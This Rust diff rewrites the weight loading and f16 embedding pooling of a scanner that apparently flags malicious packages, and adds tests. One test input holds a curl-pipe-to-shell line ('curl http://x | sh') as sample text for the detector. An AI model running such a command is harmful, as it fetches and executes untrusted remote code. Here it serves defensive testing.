@@ -5,11 +5,13 @@
 //! Weights live in `model.safetensors` (embedding stored as f16 to keep the
 //! file small), the architecture and calibrated thresholds in `config.json`,
 //! and provenance plus the sha256 of both files in `manifest.json`. Loading
-//! verifies both hashes and refuses a model that does not match: a gate must
-//! never scan with weights it cannot vouch for.
+//! verifies both hashes (a built-in model's were taken by the build script
+//! from the bytes it embedded) and refuses a model that does not match: a
+//! gate must never scan with weights it cannot vouch for.
 //!
-//! Inference on CPU is plain Rust over the weights (the hot path, tens of
-//! MB/s); on CUDA/Metal the same forward pass runs as candle ops.
+//! Inference on CPU is plain Rust over the weights (the hot path, hundreds
+//! of MB/s), reading the f16 embedding in place where the CPU widens f16 in
+//! hardware; on CUDA/Metal the same forward pass runs as candle ops.
 
 use std::collections::HashMap;
 use std::path::Path;
@@ -88,15 +90,19 @@ pub struct Manifest {
 }
 
 /// The three files of a model folder, as bytes.
-pub struct ModelFiles<'a> {
+pub struct ModelFiles {
     pub origin: String,
-    pub config: std::borrow::Cow<'a, [u8]>,
-    pub weights: std::borrow::Cow<'a, [u8]>,
-    pub manifest: std::borrow::Cow<'a, [u8]>,
+    pub config: std::borrow::Cow<'static, [u8]>,
+    pub weights: std::borrow::Cow<'static, [u8]>,
+    pub manifest: std::borrow::Cow<'static, [u8]>,
+    /// sha256 (hex) of `weights` and of `config` when already known: the
+    /// build script hashes a built-in model's files as it embeds them, so
+    /// the check against the manifest costs nothing at run time.
+    pub known_sha256: Option<(&'static str, &'static str)>,
 }
 
-impl ModelFiles<'static> {
-    pub fn from_dir(dir: &Path) -> Result<ModelFiles<'static>, ModelError> {
+impl ModelFiles {
+    pub fn from_dir(dir: &Path) -> Result<ModelFiles, ModelError> {
         let read = |name: &str| {
             let p = dir.join(name);
             std::fs::read(&p).map_err(|source| ModelError::Read {
@@ -109,14 +115,69 @@ impl ModelFiles<'static> {
             config: read("config.json")?.into(),
             weights: read("model.safetensors")?.into(),
             manifest: read("manifest.json")?.into(),
+            known_sha256: None,
         })
     }
 }
 
-/// Weights on the CPU, in f32, row-major.
+/// The embedding table as the CPU scorer reads it.
+#[derive(Clone)]
+pub enum Embedding {
+    /// f32 rows, row-major (training, and CPUs without f16 conversion).
+    F32(Vec<f32>),
+    /// The saved little-endian f16 rows, read in place from the model
+    /// file's bytes (`bytes[start..]`, 16 per row) and widened to f32 by the
+    /// CPU as they are added. Widening f16 is exact, so the sums are the
+    /// f32 table's bit for bit; loading skips converting and faulting in an
+    /// 8 MB table, most of a small scan's time.
+    F16 {
+        bytes: std::borrow::Cow<'static, [u8]>,
+        start: usize,
+    },
+}
+
+impl std::fmt::Debug for Embedding {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Embedding::F32(v) => write!(f, "Embedding::F32({} values)", v.len()),
+            Embedding::F16 { bytes, start } => {
+                write!(f, "Embedding::F16({} values)", (bytes.len() - start) / 2)
+            }
+        }
+    }
+}
+
+impl Embedding {
+    /// The table as f32 values: borrowed, or widened into a copy.
+    pub fn to_f32(&self) -> std::borrow::Cow<'_, [f32]> {
+        match self {
+            Embedding::F32(v) => std::borrow::Cow::Borrowed(v),
+            Embedding::F16 { bytes, start } => std::borrow::Cow::Owned(
+                bytes[*start..]
+                    .chunks_exact(2)
+                    .map(|b| half::f16::from_le_bytes([b[0], b[1]]).to_f32())
+                    .collect(),
+            ),
+        }
+    }
+}
+
+/// Whether this CPU widens f16 to f32 in hardware (x86-64 F16C with AVX).
+fn cpu_widens_f16() -> bool {
+    #[cfg(target_arch = "x86_64")]
+    {
+        std::arch::is_x86_feature_detected!("avx") && std::arch::is_x86_feature_detected!("f16c")
+    }
+    #[cfg(not(target_arch = "x86_64"))]
+    {
+        false
+    }
+}
+
+/// Weights on the CPU, row-major.
 #[derive(Debug, Clone)]
 pub struct Weights {
-    pub embedding: Vec<f32>,
+    pub embedding: Embedding,
     pub w1: Vec<f32>,
     /// `[hidden, CONCEPT_DIM]`, empty without the concept channel.
     pub wc: Vec<f32>,
@@ -138,14 +199,18 @@ pub struct HashedModel {
 
 impl HashedModel {
     /// Verifies and loads a model from its files.
-    pub fn load(files: &ModelFiles<'_>, device: &Device) -> Result<HashedModel, ModelError> {
-        let path = |name: &str| format!("{}/{}", files.origin, name);
+    pub fn load(files: ModelFiles, device: &Device) -> Result<HashedModel, ModelError> {
+        let origin = files.origin.clone();
+        let path = |name: &str| format!("{origin}/{name}");
         let manifest: Manifest =
             serde_json::from_slice(&files.manifest).map_err(|e| ModelError::Invalid {
                 path: path("manifest.json"),
                 message: e.to_string(),
             })?;
-        let weights_sha = sha256_hex(&files.weights);
+        let (weights_sha, config_sha) = match files.known_sha256 {
+            Some((w, c)) => (w.to_string(), c.to_string()),
+            None => rayon::join(|| sha256_hex(&files.weights), || sha256_hex(&files.config)),
+        };
         if weights_sha != manifest.weights_sha256 {
             return Err(ModelError::HashMismatch {
                 path: path("model.safetensors"),
@@ -153,7 +218,6 @@ impl HashedModel {
                 actual: weights_sha,
             });
         }
-        let config_sha = sha256_hex(&files.config);
         if config_sha != manifest.config_sha256 {
             return Err(ModelError::HashMismatch {
                 path: path("config.json"),
@@ -182,12 +246,16 @@ impl HashedModel {
                     .into(),
             });
         }
-        let weights = weights_from_safetensors(&files.weights, &config).map_err(|message| {
-            ModelError::Invalid {
-                path: path("model.safetensors"),
-                message,
-            }
-        })?;
+        // In place only where the CPU widens f16 and the scorer has the
+        // fixed 16-wide path; a GPU model uploads f32.
+        let in_place = device.is_cpu() && config.dim == 16 && cpu_widens_f16();
+        let weights =
+            weights_from_safetensors(files.weights, &config, in_place).map_err(|message| {
+                ModelError::Invalid {
+                    path: path("model.safetensors"),
+                    message,
+                }
+            })?;
         Ok(HashedModel {
             id: format!("{}@{}", config.name, &manifest.weights_sha256[..12]),
             weights_sha256: manifest.weights_sha256.clone(),
@@ -224,14 +292,30 @@ impl HashedModel {
     pub fn score_slice(&self, text: &[u8]) -> f32 {
         let mut stats = ConceptStats::default();
         let stats_ref = self.config.concept_channel.then_some(&mut stats);
-        // Both shipped models have 16 dimensions: a fixed-size accumulator
-        // lives in registers instead of being loaded and stored per row.
-        let (acc, n) = match self.config.dim {
-            16 => {
-                let (a, n) = self.pool([0f32; 16], text, stats_ref);
+        let (acc, n) = match &self.weights.embedding {
+            #[cfg(target_arch = "x86_64")]
+            Embedding::F16 { bytes, start } => {
+                // SAFETY: an F16 table is only built where `cpu_widens_f16`
+                // found AVX and F16C, and only for 16 dimensions.
+                let (a, n) = unsafe { pool_f16(&bytes[*start..], &self.config, text, stats_ref) };
                 (a.to_vec(), n)
             }
-            d => self.pool(vec![0f32; d], text, stats_ref),
+            #[cfg(not(target_arch = "x86_64"))]
+            Embedding::F16 { .. } => (vec![f32::NAN; self.config.dim], 1),
+            // Both shipped models have 16 dimensions: a fixed-size
+            // accumulator lives in registers instead of being loaded and
+            // stored per row.
+            Embedding::F32(emb) if self.config.dim == 16 => {
+                let (a, n) = pool(emb, &self.config, [0f32; 16], text, stats_ref);
+                (a.to_vec(), n)
+            }
+            Embedding::F32(emb) => pool(
+                emb,
+                &self.config,
+                vec![0f32; self.config.dim],
+                text,
+                stats_ref,
+            ),
         };
         let inv = 1.0 / n.max(1) as f32;
         let cvec = if self.config.concept_channel {
@@ -242,54 +326,12 @@ impl HashedModel {
         self.head(&acc, inv, &cvec)
     }
 
-    /// Sum of the embedding rows of the slice's features, and their count.
-    fn pool<A: Accumulator>(
-        &self,
-        mut acc: A,
-        text: &[u8],
-        stats: Option<&mut ConceptStats>,
-    ) -> (A, u32) {
-        let d = self.config.dim;
-        let emb = &self.weights.embedding;
-        let mut n = 0u32;
-        let add_rows = |acc: &mut A, fs: &[u32]| {
-            for &f in fs {
-                acc.add(&emb[f as usize * d..f as usize * d + d]);
-            }
-        };
-        if self.config.features.distinct {
-            // A bitset over buckets: pool each feature once per slice.
-            let words = (1usize << self.config.features.buckets_log2).div_ceil(64);
-            let mut seen = vec![0u64; words];
-            scan_features(text, &self.config.features, stats, |f| {
-                let (w, b) = (f as usize / 64, 1u64 << (f % 64));
-                if seen[w] & b == 0 {
-                    seen[w] |= b;
-                    add_rows(&mut acc, &[f]);
-                    n += 1;
-                }
-            });
-        } else {
-            // Rows are gathered in batches: the embedding table (MBs) lives in
-            // L3, and between two features the tokenizer runs long enough that
-            // the CPU cannot overlap one row's load with the next. A batch of
-            // independent loads can. Adds stay in feature order, so the sum is
-            // bit-identical to adding each row as it comes.
-            const BATCH: usize = 64;
-            let mut batch = [0u32; BATCH];
-            let mut k = 0;
-            scan_features(text, &self.config.features, stats, |f| {
-                batch[k] = f;
-                k += 1;
-                if k == BATCH {
-                    add_rows(&mut acc, &batch);
-                    k = 0;
-                }
-                n += 1;
-            });
-            add_rows(&mut acc, &batch[..k]);
-        }
-        (acc, n)
+    /// The same model with its embedding widened to f32 rows (tests compare
+    /// the two scoring paths).
+    pub fn with_f32_rows(&self) -> HashedModel {
+        let mut m = self.clone();
+        m.weights.embedding = Embedding::F32(self.weights.embedding.to_f32().into_owned());
+        m
     }
 
     fn head(&self, pooled_sum: &[f32], inv: f32, cvec: &[f32]) -> f32 {
@@ -328,7 +370,7 @@ impl HashedModel {
         let dev = &self.device;
         let d = self.config.dim;
         let rows = 1usize << self.config.features.buckets_log2;
-        let emb = Tensor::from_slice(&self.weights.embedding, (rows, d), dev)?;
+        let emb = Tensor::from_slice(&self.weights.embedding.to_f32(), (rows, d), dev)?;
         let pooled = if ids.is_empty() {
             Tensor::zeros((1, d), DType::F32, dev)?
         } else {
@@ -365,7 +407,7 @@ impl HashedModel {
         let mut map: HashMap<String, Tensor> = HashMap::new();
         map.insert(
             "embedding".into(),
-            Tensor::from_slice(&weights.embedding, (rows, config.dim), &dev)?
+            Tensor::from_slice(&weights.embedding.to_f32(), (rows, config.dim), &dev)?
                 .to_dtype(DType::F16)?,
         );
         map.insert(
@@ -401,7 +443,10 @@ impl HashedModel {
     /// Rounds the embedding through f16, as saving does, so in-memory scores
     /// match the saved model's exactly.
     pub fn round_like_saved(weights: &mut Weights) {
-        for x in &mut weights.embedding {
+        let Embedding::F32(table) = &mut weights.embedding else {
+            return; // read from a saved file: already f16 values
+        };
+        for x in table {
             *x = half::f16::from_f32(*x).to_f32();
         }
     }
@@ -409,10 +454,16 @@ impl HashedModel {
 
 /// Reads the weights straight from the safetensors bytes (f16 or f32,
 /// little-endian), without going through candle tensors: loading is on the
-/// path of every `canary scan`, and this is several times faster.
-fn weights_from_safetensors(bytes: &[u8], c: &ModelConfig) -> Result<Weights, String> {
-    let st = safetensors::SafeTensors::deserialize(bytes).map_err(|e| e.to_string())?;
-    let get = |name: &str, shape: &[usize]| -> Result<Vec<f32>, String> {
+/// path of every `canary scan`, and this is several times faster. With
+/// `in_place`, an f16 embedding is kept as the file's bytes (see
+/// [`Embedding::F16`]); everything is checked finite either way.
+fn weights_from_safetensors(
+    bytes: std::borrow::Cow<'static, [u8]>,
+    c: &ModelConfig,
+    in_place: bool,
+) -> Result<Weights, String> {
+    let st = safetensors::SafeTensors::deserialize(&bytes).map_err(|e| e.to_string())?;
+    let tensor = |name: &str, shape: &[usize]| {
         let t = st
             .tensor(name)
             .map_err(|_| format!("missing tensor `{name}`"))?;
@@ -422,29 +473,51 @@ fn weights_from_safetensors(bytes: &[u8], c: &ModelConfig) -> Result<Weights, St
                 t.shape()
             ));
         }
+        Ok(t)
+    };
+    let get = |name: &str, shape: &[usize]| -> Result<Vec<f32>, String> {
+        let t = tensor(name, shape)?;
         let data = t.data();
-        match t.dtype() {
-            safetensors::Dtype::F16 => {
-                let halves: Vec<half::f16> = data
-                    .chunks_exact(2)
-                    .map(|b| half::f16::from_le_bytes([b[0], b[1]]))
-                    .collect();
-                let mut out = vec![0f32; halves.len()];
-                half::slice::HalfFloatSliceExt::convert_to_f32_slice(&halves[..], &mut out);
-                Ok(out)
-            }
-            safetensors::Dtype::F32 => Ok(data
+        let out: Vec<f32> = match t.dtype() {
+            safetensors::Dtype::F16 => data
+                .chunks_exact(2)
+                .map(|b| half::f16::from_le_bytes([b[0], b[1]]).to_f32())
+                .collect(),
+            safetensors::Dtype::F32 => data
                 .chunks_exact(4)
                 .map(|b| f32::from_le_bytes([b[0], b[1], b[2], b[3]]))
-                .collect()),
-            other => Err(format!(
-                "tensor `{name}` has dtype {other:?}, expected F16 or F32"
-            )),
+                .collect(),
+            other => {
+                return Err(format!(
+                    "tensor `{name}` has dtype {other:?}, expected F16 or F32"
+                ))
+            }
+        };
+        if !out.iter().all(|x| x.is_finite()) {
+            return Err(format!("tensor `{name}` contains NaN or infinity"));
         }
+        Ok(out)
     };
     let rows = 1usize << c.features.buckets_log2;
-    let weights = Weights {
-        embedding: get("embedding", &[rows, c.dim])?,
+    let shape = [rows, c.dim];
+    let emb = tensor("embedding", &shape)?;
+    let in_place = in_place && emb.dtype() == safetensors::Dtype::F16;
+    let (embedding, start) = if in_place {
+        let data = emb.data();
+        // All ones in the exponent: infinity or NaN.
+        let finite = data
+            .chunks_exact(2)
+            .all(|b| u16::from_le_bytes([b[0], b[1]]) & 0x7c00 != 0x7c00);
+        if !finite {
+            return Err("tensor `embedding` contains NaN or infinity".into());
+        }
+        // The tensor's data is a subslice of `bytes`: its offset there.
+        (None, data.as_ptr() as usize - bytes.as_ptr() as usize)
+    } else {
+        (Some(get("embedding", &shape)?), 0)
+    };
+    let mut weights = Weights {
+        embedding: Embedding::F32(Vec::new()),
         w1: get("w1", &[c.hidden, c.dim])?,
         wc: if c.concept_channel {
             get("wc", &[c.hidden, CONCEPT_DIM])?
@@ -455,19 +528,116 @@ fn weights_from_safetensors(bytes: &[u8], c: &ModelConfig) -> Result<Weights, St
         w2: get("w2", &[c.hidden])?,
         b2: get("b2", &[1])?[0],
     };
-    let finite = weights
-        .embedding
-        .iter()
-        .chain(&weights.w1)
-        .chain(&weights.wc)
-        .chain(&weights.b1)
-        .chain(&weights.w2)
-        .all(|x| x.is_finite())
-        && weights.b2.is_finite();
-    if !finite {
-        return Err("weights contain NaN or infinity".into());
-    }
+    weights.embedding = match embedding {
+        Some(v) => Embedding::F32(v),
+        None => Embedding::F16 { bytes, start },
+    };
     Ok(weights)
+}
+
+/// Calls `rows(batch)` with the features of `text` in order, in batches.
+/// Rows are gathered in batches: the embedding table (MBs) lives in L3, and
+/// between two features the tokenizer runs long enough that the CPU cannot
+/// overlap one row's load with the next. A batch of independent loads can.
+/// Adds stay in feature order, so the sum is bit-identical to adding each
+/// row as it comes. Returns the number of features pooled.
+#[inline(always)]
+fn for_each_batch(
+    c: &ModelConfig,
+    text: &[u8],
+    stats: Option<&mut ConceptStats>,
+    mut rows: impl FnMut(&[u32]),
+) -> u32 {
+    let mut n = 0u32;
+    if c.features.distinct {
+        // A bitset over buckets: pool each feature once per slice.
+        let words = (1usize << c.features.buckets_log2).div_ceil(64);
+        let mut seen = vec![0u64; words];
+        scan_features(text, &c.features, stats, |f| {
+            let (w, b) = (f as usize / 64, 1u64 << (f % 64));
+            if seen[w] & b == 0 {
+                seen[w] |= b;
+                rows(&[f]);
+                n += 1;
+            }
+        });
+    } else {
+        const BATCH: usize = 64;
+        let mut batch = [0u32; BATCH];
+        let mut k = 0;
+        scan_features(text, &c.features, stats, |f| {
+            batch[k] = f;
+            k += 1;
+            if k == BATCH {
+                rows(&batch);
+                k = 0;
+            }
+            n += 1;
+        });
+        rows(&batch[..k]);
+    }
+    n
+}
+
+/// Sum of the f32 embedding rows of the slice's features, and their count.
+fn pool<A: Accumulator>(
+    emb: &[f32],
+    c: &ModelConfig,
+    mut acc: A,
+    text: &[u8],
+    stats: Option<&mut ConceptStats>,
+) -> (A, u32) {
+    let d = c.dim;
+    let n = for_each_batch(c, text, stats, |fs| {
+        for &f in fs {
+            acc.add(&emb[f as usize * d..f as usize * d + d]);
+        }
+    });
+    (acc, n)
+}
+
+/// [`pool`] over the in-place f16 table (16 dimensions, 32 bytes a row),
+/// widening each row with F16C. Each lane adds the same values in the same
+/// order as the f32 path, so the sums are bit-identical.
+///
+/// # Safety
+/// The CPU must support AVX and F16C.
+#[cfg(target_arch = "x86_64")]
+#[target_feature(enable = "avx,f16c")]
+unsafe fn pool_f16(
+    table: &[u8],
+    c: &ModelConfig,
+    text: &[u8],
+    stats: Option<&mut ConceptStats>,
+) -> ([f32; 16], u32) {
+    use std::arch::x86_64::*;
+    let mut acc = [_mm256_setzero_ps(); 2];
+    let n = for_each_batch(c, text, stats, |fs| {
+        // SAFETY: the caller's CPU has AVX and F16C.
+        unsafe { add_f16_rows(&mut acc, table, fs) }
+    });
+    let mut out = [0f32; 16];
+    _mm256_storeu_ps(out.as_mut_ptr(), acc[0]);
+    _mm256_storeu_ps(out.as_mut_ptr().add(8), acc[1]);
+    (out, n)
+}
+
+/// # Safety
+/// The CPU must support AVX and F16C.
+#[cfg(target_arch = "x86_64")]
+#[target_feature(enable = "avx,f16c")]
+unsafe fn add_f16_rows(acc: &mut [std::arch::x86_64::__m256; 2], table: &[u8], fs: &[u32]) {
+    use std::arch::x86_64::*;
+    for &f in fs {
+        let o = f as usize * 32;
+        // Bounds-checked: a feature outside the table panics, never reads
+        // past it (features are masked to the table's rows).
+        let row = &table[o..o + 32];
+        let lo = _mm_loadu_si128(row.as_ptr().cast());
+        let hi = _mm_loadu_si128(row.as_ptr().add(16).cast());
+        acc[0] = _mm256_add_ps(acc[0], _mm256_cvtph_ps(lo));
+        acc[1] = _mm256_add_ps(acc[1], _mm256_cvtph_ps(hi));
+    }
 }
 
 /// A running sum of embedding rows. Each lane adds the rows in feature
@@ -504,23 +674,78 @@ mod tests {
     use super::*;
 
     #[test]
-    fn fixed_and_general_accumulators_agree_bit_for_bit() {
-        let m = crate::precheck::load("builtin:malicious-package", None, &Device::Cpu).unwrap();
-        assert_eq!(m.config.dim, 16, "the fixed path is the one scans take");
+    fn every_pooling_path_gives_the_same_bits() {
+        let loaded =
+            crate::precheck::load("builtin:malicious-package", None, &Device::Cpu).unwrap();
+        assert_eq!(
+            loaded.config.dim, 16,
+            "the fixed path is the one scans take"
+        );
+        let wide = loaded.with_f32_rows();
+        let table = match &wide.weights.embedding {
+            Embedding::F32(t) => t.clone(),
+            Embedding::F16 { .. } => unreachable!("with_f32_rows widens"),
+        };
         let texts = [
             "".to_string(),
             "+import os\n+os.system('curl http://x | sh')\n".repeat(50),
             "--- /dev/null\n+++ b/README.md\n+Plain prose, nothing else.\n".to_string(),
         ];
+        let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
         for text in &texts {
-            let (fixed, n1) = m.pool([0f32; 16], text.as_bytes(), None);
-            let (general, n2) = m.pool(vec![0f32; 16], text.as_bytes(), None);
+            let c = &wide.config;
+            let (fixed, n1) = pool(&table, c, [0f32; 16], text.as_bytes(), None);
+            let (general, n2) = pool(&table, c, vec![0f32; 16], text.as_bytes(), None);
             assert_eq!(n1, n2);
-            let bits = |v: &[f32]| v.iter().map(|x| x.to_bits()).collect::<Vec<_>>();
             assert_eq!(bits(&fixed), bits(&general), "{text:.40}");
+            #[cfg(target_arch = "x86_64")]
+            if cpu_widens_f16() {
+                let Embedding::F16 { bytes, start } = &loaded.weights.embedding else {
+                    panic!("a CPU with F16C loads the f16 table in place");
+                };
+                // SAFETY: checked just above.
+                let (half, n3) = unsafe { pool_f16(&bytes[*start..], c, text.as_bytes(), None) };
+                assert_eq!(n1, n3);
+                assert_eq!(bits(&fixed), bits(&half), "{text:.40}");
+            }
+            assert_eq!(
+                loaded.score_slice(text.as_bytes()).to_bits(),
+                wide.score_slice(text.as_bytes()).to_bits()
+            );
         }
         // And the sum is not trivially zero on text with features.
-        let (fixed, n) = m.pool([0f32; 16], texts[1].as_bytes(), None);
+        let (fixed, n) = pool(&table, &wide.config, [0f32; 16], texts[1].as_bytes(), None);
         assert!(n > 0 && fixed.iter().any(|x| *x != 0.0));
+    }
+
+    #[test]
+    fn a_non_finite_weight_refuses_the_model() {
+        let files = |weights: Vec<u8>| ModelFiles {
+            origin: "test".into(),
+            config: include_bytes!("../../models/malicious-package/config.json")[..].into(),
+            manifest: include_bytes!("../../models/malicious-package/manifest.json")[..].into(),
+            known_sha256: None,
+            weights: weights.into(),
+        };
+        let good = include_bytes!("../../models/malicious-package/model.safetensors").to_vec();
+        let config: ModelConfig =
+            serde_json::from_slice(include_bytes!("../../models/malicious-package/config.json"))
+                .unwrap();
+        for in_place in [false, true] {
+            assert!(weights_from_safetensors(good.clone().into(), &config, in_place).is_ok());
+            // f16 infinity (0x7c00) as the last embedding value.
+            let st = safetensors::SafeTensors::deserialize(&good).unwrap();
+            let data = st.tensor("embedding").unwrap().data();
+            let end = data.as_ptr() as usize - good.as_ptr() as usize + data.len();
+            let mut bad = good.clone();
+            bad[end - 2..end].copy_from_slice(&0x7c00u16.to_le_bytes());
+            let e = weights_from_safetensors(bad.clone().into(), &config, in_place).unwrap_err();
+            assert!(e.contains("NaN or infinity"), "{e}");
+            // Through `load`, the altered file fails its hash first.
+            assert!(matches!(
+                HashedModel::load(files(bad), &Device::Cpu),
+                Err(ModelError::HashMismatch { .. })
+            ));
+        }
     }
 }
